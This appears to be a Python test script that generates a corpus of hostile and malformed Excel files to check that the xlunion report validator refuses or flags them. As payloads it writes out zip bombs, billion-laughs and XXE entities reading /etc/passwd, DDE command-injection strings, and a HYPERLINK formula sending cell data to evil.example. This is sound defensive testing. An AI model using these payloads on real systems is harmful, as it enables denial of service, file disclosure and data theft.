"""The hostile and broken input corpus: every file made by this script from one clean child.

    python tests/hostile.py OUT [--table docs/hostile-input.md]

Each case names what it tries and what xlunion must answer: an error key (the file is
refused with that reason), a finding rule (the file is read, and that finding is among
its findings), or "ok" (read as an honest file). The test suite builds the corpus once
per session and checks every case; ``--table`` writes the table for the docs.
"""

from __future__ import annotations

import io
import re
import sys
import warnings
import zipfile
from dataclasses import dataclass
from html import escape
from pathlib import Path

BASE_INDEX = 4  # the fifth synthetic child: a non-state enterprise union, figures on every sheet


@dataclass(frozen=True)
class Case:
    name: str
    tries: str
    expect: str
    """"wb.<key>" refused with that reason; "rule:<rule>" read, with that finding; "ok"."""


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rezip(members: dict[str, bytes] | list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    items = members.items() if isinstance(members, dict) else members
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        warnings.simplefilter("ignore")  # "Duplicate name": one case wants exactly that
        for name, body in items:
            zf.writestr(name, body)
    return out.getvalue()


def set_cell(xml: bytes, ref: str, new: str) -> bytes:
    """Replace cell ``ref`` (which the standard workbook always writes) with ``new``."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"(?:[^>]*?/>|[^>]*?>.*?</c>)', re.S)
    assert pattern.search(xml), ref
    return pattern.sub(new.encode().replace(b"\\", b"\\\\"), xml, count=1)


def text_cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(text, quote=False)}</t></is></c>'


class Builder:
    def __init__(self, defn, base: Path, out: Path):
        from xlunion.io.preflight import preflight
        from xlunion.layout import META_SHEET, layout

        self.defn, self.out = defn, out
        self.base = base.read_bytes()
        self.sheets = preflight(base, self.base).sheets
        self.lay, self.meta_sheet = layout(defn), META_SHEET
        self.code = next(i.code for i in defn.indicators.values() if not i.computed)
        self.sheet, self.input = self.lay.cell(self.code, defn.periods[-1].code)
        self.note = self.lay.cell(self.code, "GC")[1]
        self.cases: list[Case] = []

    def zero_cell(self) -> tuple[str, str]:
        """(sheet, cell) of an input whose figure is 0 in the base child."""
        from xlunion.io.read import read_raw

        raw = read_raw("base.xlsx", self.base)
        years = {p.code for p in self.defn.periods}
        key = next(k for k, v in raw.values.items() if v == 0 and k[1] in years and not k[0].startswith("@")
                   and not self.defn[k[0]].computed)
        return raw.cells[key]

    def add(self, name: str, tries: str, expect: str, data: bytes) -> None:
        (self.out / name).write_bytes(data)
        self.cases.append(Case(name, tries, expect))

    def edit(self, name, tries, expect, sheet: str, ref: str, cell: str) -> None:
        p = parts(self.base)
        part = self.sheets[sheet]
        p[part] = set_cell(p[part], ref, cell)
        self.add(name, tries, expect, rezip(p))

    def meta(self, name, tries, expect, field: str, text: str) -> None:
        self.edit(name, tries, expect, self.meta_sheet, self.lay.meta_cell(field), text_cell(self.lay.meta_cell(field),
                                                                                              text))

    def part(self, name, tries, expect, change) -> None:
        p = parts(self.base)
        change(p)
        self.add(name, tries, expect, rezip(p))

    def openpyxl(self, name, tries, expect, change) -> None:
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(self.base))
        change(book)
        buf = io.BytesIO()
        book.save(buf)
        self.add(name, tries, expect, buf.getvalue())


def build(defn, base: Path, out: Path) -> list[Case]:
    """Write every case into ``out`` and return the list."""
    out.mkdir(parents=True, exist_ok=True)
    b = Builder(defn, base, out)
    _not_workbooks(b)
    _zip_attacks(b)
    _xml_attacks(b)
    _sheet_limits(b)
    _cells(b)
    _text(b)
    _structure(b)
    return b.cases


def _not_workbooks(b: Builder) -> None:
    import random

    rng = random.Random(8)
    b.add("not-a-zip.xlsx", "random bytes", "wb.not_workbook", bytes(rng.randrange(256) for _ in range(4096)))
    b.add("empty.xlsx", "an empty file", "wb.not_workbook", b"")
    b.add("truncated.xlsx", "the first half of a good workbook (a cut-off download)", "wb.truncated",
          b.base[:len(b.base) // 2])
    b.add("truncated-tail.xlsx", "a good workbook missing its last 100 bytes (the zip directory)", "wb.truncated",
          b.base[:-100])
    b.add("csv-renamed.xlsx", "a CSV export renamed .xlsx", "wb.csv",
          "Mã số,Chỉ tiêu,Năm 2025\nDV_TONG,Tổng số đoàn viên,1250\n".encode())
    b.add("html-renamed.xlsx", "an HTML table saved as .xlsx (old web exports)", "wb.html",
          "<html><body><table><tr><td>Đoàn viên</td><td>1250</td></tr></table></body></html>".encode())
    b.add("xls-renamed.xlsx", "an Excel 97–2003 (OLE) file renamed .xlsx", "wb.xls", _ole_file())
    b.add("ods-renamed.xlsx", "a LibreOffice .ods renamed .xlsx", "wb.ods",
          rezip([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                 ("content.xml", b"<office:document-content/>"), ("META-INF/manifest.xml", b"<manifest/>")]))
    b.add("xlsb-renamed.xlsx", "a binary .xlsb renamed .xlsx", "wb.xlsb",
          rezip([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.bin", b"\x83\x01\x00"),
                 ("xl/_rels/workbook.bin.rels", b"<Relationships/>")]))
    b.add("encrypted.xlsx", "a password-protected workbook (Agile encryption)", "wb.encrypted", _encrypted(b.base))


def _ole_file() -> bytes:
    """An OLE compound file, as every .xls is (xlunion's own CFB writer makes it)."""
    from xlunion.vba.cfb import Node, write_cfb

    return write_cfb([Node("Workbook", b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\0" * 600)])


def _encrypted(data: bytes) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt("matkhau2025", out)
    return out.getvalue()


def _zip_attacks(b: Builder) -> None:
    sheet_part = b.sheets[b.sheet]
    b.add("zip-bomb.xlsx", "a sheet part that inflates past 1 GB (1,000× ratio)", "wb.zip_bomb", _stream_zip(b.base,
                                                                                                         sheet_part))
    b.add("zip-bomb-lying.xlsx", "a 200 MB sheet part whose zip headers declare 4 KB", "wb.truncated",
          _lying(b.base, sheet_part))
    b.part("too-many-parts.xlsx", "5,000 extra parts in the zip", "wb.zip_limits",
           lambda p: p.update({f"customXml/item{i}.xml": b"<a/>" for i in range(5000)}))
    b.add("duplicate-part.xlsx", "two parts named xl/workbook.xml (parsers disagree on which wins)",
          "wb.zip_duplicate", rezip([*parts(b.base).items(), ("xl/workbook.xml", b"<workbook/>")]))
    b.part("missing-rels.xlsx", "the workbook's relationships part removed", "wb.missing_part",
           lambda p: p.pop("xl/_rels/workbook.xml.rels"))
    b.part("no-workbook-part.xlsx", "a zip with everything but xl/workbook.xml", "wb.not_workbook",
           lambda p: p.pop("xl/workbook.xml"))


def _padded(xml: bytes, size: int) -> bytes:
    return xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (size - len(xml)), 1)


def _stream_zip(base: bytes, part: str) -> bytes:
    """The base workbook with ``part`` padded to 1.1 GB with spaces, compressed as it is written."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            body = src.read(info)
            if info.filename != part:
                zf.writestr(info.filename, body)
                continue
            head, tail = body.split(b"<sheetData>", 1)
            with zf.open(info.filename, "w", force_zip64=True) as stream:
                stream.write(head + b"<sheetData>")
                block = b" " * (1 << 20)
                for _ in range(1100):
                    stream.write(block)
                stream.write(tail)
    return out.getvalue()


def _lying(base: bytes, part: str) -> bytes:
    """A 200 MB part whose local and central headers claim 4,096 bytes."""
    members = parts(base)
    members[part] = _padded(members[part], 200 << 20)
    data = bytearray(rezip(members))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(part)
    real = info.file_size.to_bytes(4, "little")
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):  # local header, then central directory entry
        start = 0
        while (at := data.find(sig, start)) >= 0:
            size_at = at + (22 if sig == b"PK\x03\x04" else 24)
            if data[size_at:size_at + 4] == real:
                data[size_at:size_at + 4] = (4096).to_bytes(4, "little")
            start = at + 4
    return bytes(data)


LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10)) + b"]>\n")


def _xml_attacks(b: Builder) -> None:
    b.part("billion-laughs-workbook.xlsx", "nested entities in xl/workbook.xml (“billion laughs”)", "wb.dtd",
           lambda p: p.update({"xl/workbook.xml": LAUGHS + p["xl/workbook.xml"].split(b"?>", 1)[1]}))
    b.part("billion-laughs-strings.xlsx", "nested entities in the shared strings a parser reads first", "wb.dtd",
           lambda p: p.update({"xl/sharedStrings.xml": LAUGHS + p["xl/sharedStrings.xml"].split(b"?>", 1)[1]}))
    xxe = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    part = b.sheets[b.sheet]
    b.part("external-entity.xlsx", "an external entity (XXE) reading /etc/passwd into a sheet", "wb.dtd",
           lambda p: p.update({part: xxe + p[part].split(b"?>", 1)[1].replace(b"<sheetData>", b"<sheetData>&xxe;",
                                                                                1)}))
    b.part("bad-xml.xlsx", "xl/workbook.xml that is not XML", "wb.bad_xml",
           lambda p: p.update({"xl/workbook.xml": b"<workbook><sheets><sheet name="}))
    b.part("shared-strings-count.xlsx", "shared strings announcing uniqueCount=4,000,000,000", "wb.strings_count",
           lambda p: p.update({"xl/sharedStrings.xml": re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4000000000"',
                                                              p["xl/sharedStrings.xml"])}))


def _sheet_limits(b: Builder) -> None:
    part = b.sheets[b.sheet]

    def last_cell(ref: str, row: int):
        def change(p):
            p[part] = p[part].replace(b"</sheetData>", f'<row r="{row}"><c r="{ref}"><v>1</v></c></row>'
                                      .encode() + b"</sheetData>", 1)
        return change

    b.part("cell-xfd1048576.xlsx", "one cell at XFD1048576 (the parser allocates the whole box)",
           "wb.sheet_too_big", last_cell("XFD1048576", 1048576))
    b.part("cell-xfd1.xlsx", "one cell in column XFD of a report sheet", "wb.sheet_too_big", last_cell("XFD100", 100))
    b.part("dimension-lie.xlsx", "a sheet declaring dimension A1:XFD1048576", "wb.sheet_too_big",
           lambda p: p.update({part: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>',
                                            p[part])}))
    b.part("bad-address.xlsx", "a cell address beyond Excel's columns (ZZZZ1)", "wb.bad_address",
           last_cell("ZZZZ1", 1))

    def million(p):
        rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (r, r) for r in range(100, 1_048_577))
        p[part] = p[part].replace(b"</sheetData>", rows + b"</sheetData>", 1)

    b.part("million-rows.xlsx", "a report sheet filled down to row 1,048,576", "wb.sheet_too_big", million)

    def hidden_million(p):
        hidden = b.sheets["_xlunion"]
        rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (r, r) for r in range(2000, 1_048_577))
        p[hidden] = p[hidden].replace(b"</sheetData>", rows + b"</sheetData>", 1)

    b.part("hidden-million-rows.xlsx", "the hidden map sheet filled down to row 1,048,576", "wb.sheet_too_big",
           hidden_million)


def _cells(b: Builder) -> None:
    ref = b.input
    b.edit("excel-error.xlsx", "#DIV/0! in an input cell", "rule:excel_error", b.sheet, ref,
           f'<c r="{ref}" t="e"><v>#DIV/0!</v></c>')
    b.edit("ref-error.xlsx", "#REF! in an input cell", "rule:excel_error", b.sheet, ref,
           f'<c r="{ref}" t="e"><v>#REF!</v></c>')
    b.edit("nan.xlsx", "NaN stored as a number", "rule:not_finite", b.sheet, ref, f'<c r="{ref}"><v>NaN</v></c>')
    b.edit("infinity.xlsx", "infinity stored as a number", "rule:not_finite", b.sheet, ref,
           f'<c r="{ref}"><v>INF</v></c>')
    b.edit("huge.xlsx", "1E+308 in an input cell", "rule:not_finite", b.sheet, ref, f'<c r="{ref}"><v>1E+308</v></c>')
    sheet, zero = b.zero_cell()
    b.edit("negative-zero.xlsx", "-0 where the figure is 0 (read as 0, not −0)", "ok", sheet, zero,
           f'<c r="{zero}"><v>-0</v></c>')


def _text(b: Builder) -> None:
    note = b.note
    b.edit("note-hyperlink.xlsx", "=HYPERLINK(…) typed as a note", "rule:formula_text", b.sheet, note,
           text_cell(note, '=HYPERLINK("http://evil.example/?d="&C6,"Bấm vào đây")'))
    b.edit("note-dde.xlsx", "a DDE payload =cmd|' /C calc'!A0 as a note", "rule:formula_text", b.sheet, note,
           text_cell(note, "=cmd|' /C calc'!A0"))
    b.meta("officer-plus.xlsx", "+cmd|… leading the officer's name", "rule:formula_text", "officer",
           "+cmd|' /C notepad'!A0")
    b.meta("officer-minus.xlsx", "-2+3+cmd|… leading the officer's name", "rule:formula_text", "officer",
           "-2+3+cmd|' /C calc'!A0")
    b.meta("officer-at.xlsx", "@SUM(…) leading the officer's name", "rule:formula_text", "officer",
           "@SUM(1+9)*cmd|' /C calc'!A0")
    row = b.lay.rows[b.code] + 1
    b.edit("label-hyperlink.xlsx", "=HYPERLINK(…) replacing an indicator's label", "rule:label_changed", b.sheet,
           f"B{row}", text_cell(f"B{row}", '=HYPERLINK("http://evil.example","Tổng số đoàn viên")'))
    b.edit("long-note.xlsx", "a 40,000-character note (Excel's cell limit is 32,767)", "rule:text_too_long",
           b.sheet, note, text_cell(note, "Giải trình. " * 3400))
    b.meta("zero-width-code.xlsx", "a zero-width space inside the unit code", "rule:invisible_chars", "unit_code",
           "CS000\u200b005")
    b.meta("right-to-left.xlsx", "a right-to-left override in the unit name", "rule:invisible_chars", "unit_name",
           "Công đoàn \u202eMAY MẶC\u202c Bình Minh")


def _structure(b: Builder) -> None:
    from xlunion.layout import HIDDEN_SHEET

    def set_info(key, value):
        def change(book):
            ws = book[HIDDEN_SHEET]
            row = next(r for r in range(1, 40) if ws.cell(r, 1).value == key)
            ws.cell(row, 2).value = value
        return change

    b.openpyxl("other-report.xlsx", "the workbook of another report", "wb.other_report", set_info("report_id", "TKNK"))
    b.openpyxl("other-version.xlsx", "an older version of this report's template", "wb.other_version",
               set_info("report_version", "0.9"))
    b.part("no-map.xlsx", "the hidden cell map sheet removed", "wb.no_map",
           lambda p: p.update({"xl/workbook.xml": re.sub(rb'<sheet name="_xlunion"[^>]*/>', b"",
                                                         p["xl/workbook.xml"])}))
    row = b.lay.rows[b.code] + 1
    b.openpyxl("rows-inserted.xlsx", "two rows inserted above an indicator", "rule:moved_row",
               lambda book: book[b.sheet].insert_rows(row, 2))
    b.openpyxl("row-deleted.xlsx", "an indicator's row deleted", "rule:structure",
               lambda book: book[b.sheet].delete_rows(row, 1))
    first = b.lay.cell(b.code, b.defn.periods[0].code)[1]
    b.openpyxl("merged-inputs.xlsx", "input cells merged into one", "rule:merged_input",
               lambda book: book[b.sheet].merge_cells(f"{first}:{b.input}"))
    other = next(s.name for s in b.defn.sheets if s.name != b.sheet)
    b.part("hidden-sheet.xlsx", "an appendix sheet hidden", "rule:hidden_sheet",
           lambda p: p.update({"xl/workbook.xml": p["xl/workbook.xml"].replace(
               f'<sheet name="{escape(other)}"'.encode(), f'<sheet name="{escape(other)}" state="hidden"'.encode())}))

    def very_hidden(book):
        ws = book.create_sheet("Ghi chép riêng")
        ws["A1"] = "không ai thấy trang này"
        ws.sheet_state = "veryHidden"

    b.openpyxl("very-hidden-sheet.xlsx", "an extra very hidden sheet", "rule:hidden_sheet", very_hidden)
    b.part("date-1904.xlsx", "the 1904 date system (old Excel for Mac)", "rule:date1904", _date1904(b))
    b.part("macros.xlsx", "a VBA project inside the workbook", "rule:macros", _macros)
    b.part("external-links.xlsx", "a link to another workbook on a file share", "rule:external_links",
           _external_link)
    b.add("same-unit-copy.xlsx", "a second file claiming the same unit (a resend)", "ok", b.base)


def _date1904(b: Builder):
    ref = b.lay.meta_cell("cutoff")

    def change(p):
        p["xl/workbook.xml"] = p["xl/workbook.xml"].replace(b"<workbookPr ", b'<workbookPr date1904="1" ', 1)
        part = b.sheets[b.meta_sheet]
        serial = float(re.search(rb'<c r="' + ref.encode() + rb'"[^>]*><v>([^<]+)</v>', p[part]).group(1))
        p[part] = re.sub(rb'(<c r="' + ref.encode() + rb'"[^>]*><v>)[^<]+(</v>)',
                         lambda m: m.group(1) + str(int(serial) - 1462).encode() + m.group(2), p[part])
    return change


def _macros(p: dict) -> None:
    from xlunion.vba.cfb import Node, write_cfb

    p["xl/vbaProject.bin"] = write_cfb([Node("VBA", children=[Node("dir", b"\x01\x00")]),
                                        Node("PROJECT", b'ID="{00000000-0000-0000-0000-000000000000}"\r\n')])
    p["[Content_Types].xml"] = p["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml").replace(
        b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1)
    p["xl/_rels/workbook.xml.rels"] = p["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", (
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>'))


def _external_link(p: dict) -> None:
    ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    p["xl/externalLinks/externalLink1.xml"] = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink ' + ns
                                               + b'><externalBook xmlns:r="http://schemas.openxmlformats.org/'
                                               b'officeDocument/2006/relationships" r:id="rId1"/></externalLink>')
    p["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="file:///\\\\maychu\\baocao\\tong-hop.xlsx" TargetMode="External"/>'
        b'</Relationships>')
    p["[Content_Types].xml"] = p["[Content_Types].xml"].replace(b"</Types>", (
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'))
    p["xl/_rels/workbook.xml.rels"] = p["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", (
        b'<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'))


def base_child(defn, folder: Path):
    """A clean synthetic province of 8 children; the corpus derives from one of them."""
    from xlunion.demo import write_province

    province = write_province(defn, folder, 8)
    return province, province.children[BASE_INDEX]


def table(cases: list[Case], said: dict[str, str]) -> str:
    lines = ["# Hostile and broken input: the corpus", "",
             "Made by `python tests/hostile.py OUT --table docs/hostile-input.md` from one clean child; the",
             "test suite checks every row (message, time, memory, input unchanged). “What xlunion says” is the",
             "Vietnamese message an officer reads (`--lang en` gives English).", "",
             "| File | What it tries | Expected | What xlunion says |", "|---|---|---|---|"]
    for c in cases:
        text = said.get(c.name, "").replace("|", "\\|").replace("\n", " ")
        tries = c.tries.replace("|", "\\|")
        lines.append(f"| `{c.name}` | {tries} | `{c.expect}` | {text} |")
    return "\n".join(lines + round_two()) + "\n"


ROUND_TWO = [
    # (what it tries, what xlunion says or does, the test that checks it)
    ("two sheets of one name (`_xlunion` and `_XLunion`), the first pointing at a huge sheet: the preflight "
     "and python-calamine read different ones",
     "refused: “Tệp có hai trang tính trùng tên “_xlunion” (Excel không cho phép …)”; verify, compare and diff "
     "exit 2 with it (they died of SIGABRT)", "test_preflight.py"),
    ("a zip of 700,000 tiny entries (57 MB)", "refused from the zip's end record before it is parsed: 1.1 s and "
     "148 MB for the whole process (was 6 s and 535 MB)", "test_preflight.py"),
    ("Strict Open XML (purl.oclc.org namespaces)", "refused as what it is, with how to save it again (openpyxl, "
     "which writes the marks, finds no sheet in it)", "test_preflight.py"),
    ("a hidden sheet, workbook.xml or sharedStrings.xml in UTF-16; a part declared UTF-7",
     "refused, naming the part and its encoding (was “biểu mẫu của báo cáo “?””)", "test_preflight.py"),
    ("entities or a DTD in docProps/core.xml, app.xml, custom.xml, a theme, customXml; a DTD after 70 KB of "
     "comment", "refused, naming the part (openpyxl crashed on it after validate passed the file)",
     "test_preflight.py"),
    ("a shared-string index past the table; an unclosed attribute", "“Không đọc được trang “…”: …” in Vietnamese, "
     "the parser's English only as a trailing technical detail", "test_preflight.py"),
    ("a sheet named `=cmd|' calc'!A0`", "written as text in the marks sheet, the check sheet and every copy",
     "test_hostile_outputs.py"),
    ("live formulas in input cells: WEBSERVICE, FILTERXML, DDE `cmd|`, `[1]` links, HYPERLINK outside the "
     "workbook; a defined name reaching outside", "an error naming the sheet and cell (the name: a warning); "
     "annotated, stamped and sent copies hold the stored value, the name dropped", "test_hostile_outputs.py"),
    ("`=45+49` typed in an input cell, then `--in-place --stamp` or `send`",
     "valid; the copy holds 94 and `verify` passes (it said “ĐÃ THAY ĐỔI”, then “required”)",
     "test_hostile_outputs.py"),
    ("an extra sheet of millions of cells with `--annotate`, `--stamp`, `send`", "openpyxl runs in a limited "
     "worker: that file's copy fails with a message naming it, every other copy is written, exit 2",
     "test_hostile_outputs.py"),
    ("`--format json` with `--annotate` or `--stamp`", "stdout holds only the JSON; what was written is in it",
     "test_validate_cli.py"),
    ("console markup in a cell (`12 [/i]`, `[link=…]`) or a file name (`CD0105 [bản sửa lần 2].xlsx`); ESC "
     "sequences and bidi overrides in file names", "printed as typed; control characters written out "
     "(`\\x1b`, `\\u202e`); nothing crashes or reaches the terminal", "test_terminal.py"),
    ("a grassroots file whose hidden sheet claims to be its union's consolidation",
     "errors (level, name, claim checked against the registry); it covers nobody, the children count",
     "test_trust.py"),
    ("a consolidation padded with provenance rows, or naming a unit of another branch; a grassroots file "
     "with 3,000 (or 150,000) provenance rows", "an error (bounded by the registry: 3 rows a unit + 10; units "
     "below only); a grassroots file's rows are ignored with a warning and never go upward", "test_trust.py"),
    ("a typed `stamp_time` line (no digest) making a late file on time, or an old version the latest",
     "ignored: the receipt time is the file's time here (or the ledger's arrival)", "test_trust.py"),
    ("an unusable file in a folder with a long absolute path", "the status sheet names the file only",
     "test_trust.py"),
    ("a read-only output folder, `-o` naming a folder, a full disk, a name too long, an unreadable input",
     "one Vietnamese sentence, exit 2, the old output whole", "test_output_faults.py"),
    ("a file time past year 9999", "no receipt time; consolidation goes on (it crashed)", "test_output_faults.py"),
    ("`kill -9` while writing", "the next write removes the killed writer's temporary (`.tinh.~PID.….xlsx`)",
     "test_hostile.py, test_output_faults.py"),
    ("`--format xml`; `--lang fr`; a path typer cannot read", "usage errors in Vietnamese, exit 2",
     "test_cli_help.py"),
]


def round_two() -> list[str]:
    lines = ["", "## Round two (issue 18): past the preflight, in the outputs, between levels, on output", "",
             "Built by the tests named, each from a clean child.", "",
             "| What it tries | What xlunion says or does | Test |", "|---|---|---|"]
    for tries, says, test in ROUND_TWO:
        lines.append(f"| {tries.replace('|', chr(92) + '|')} | {says.replace('|', chr(92) + '|')} | `{test}` |")
    return lines


def summary(result: dict, case: Case) -> str:
    """The message that matters for a case, from ``xlunion validate --format json``."""
    if result.get("error"):
        return result["error"].split(": ", 1)[-1] if result["error"].startswith("/") else result["error"]
    wanted = case.expect.removeprefix("rule:")
    found = [f for f in result["findings"] if f["rule"] == wanted] or result["findings"]
    return found[0]["message"] if found else "Hợp lệ (không có lỗi)"


if __name__ == "__main__":
    import argparse
    import json
    import subprocess
    import tempfile

    from xlunion.definition import load_definition

    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--table", type=Path)
    args = ap.parse_args()
    defn = load_definition()
    with tempfile.TemporaryDirectory() as tmp:
        _province, base = base_child(defn, Path(tmp))
        cases = build(defn, base, args.out)
    print(f"{len(cases)} files in {args.out}")
    if args.table:
        said = {}
        for c in cases:
            run = subprocess.run([sys.executable, "-m", "xlunion", "validate", str(args.out / c.name), "--format",
                                  "json"], capture_output=True, text=True)
            said[c.name] = summary(json.loads(run.stdout)["files"][0], c)
        args.table.write_text(table(cases, said), encoding="utf-8")
